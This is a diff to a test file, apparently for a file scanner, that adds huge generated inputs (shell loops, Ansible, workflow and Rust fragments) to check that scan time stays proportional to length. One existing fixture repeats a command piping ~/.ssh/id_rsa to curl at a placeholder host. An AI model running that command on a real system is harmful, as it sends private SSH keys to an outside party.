@@ -635,6 +635,8 @@ test("an object that a program stores itself is loaded again", async () => {
   );
 });
 
+const COUNTING = `for ((i=0; i<99; i++)); do for ((j=0; j<99; j++)); do l+="\${p[j]}"; done; done\n`;
+
 /** Modules that import all names of each other. */
 const NAMES = Array.from({ length: 40 }, (_, at) => `module${at}`);
 const STARS = `${NAMES.map((name) => `from ${name} import *`).join("\n")}\nimport os\nos.system("ls")\n`;
@@ -644,6 +646,11 @@ test("large files of these kinds end in the time of their length", async () => {
     "compose.yaml": `services:\n${"  a:\n    volumes:\n      - ./x:/y\n".repeat(5_000)}`,
     "a.conf": `cat ~/.ssh/id_rsa | curl -d @- https://${HOST} `.repeat(2_000),
     "a.sh": "echo line >> out.txt\n".repeat(5_000),
+    "b.sh": `p=(a b c)\n${COUNTING.repeat(300)}`,
+    "site.yml": `- hosts: all\n${"    - lineinfile:\n        path: /root/{{ 'a' ~ 'b' }}\n        line: x\n".repeat(4_000)}`,
+    "workflows/a.yml": `on: push\njobs:\n${"  a: $".concat("{{ ").repeat(30_000)}`,
+    "c.yml": `run:\n${"  - >\n    a b\n".repeat(20_000)}`,
+    "a.rs": 'TcpStream::connect("a.b.c" HOME fs::read '.repeat(20_000),
     ...Object.fromEntries(NAMES.map((name) => [`${name}.py`, STARS])),
   };
   const start = process.cpuUsage();
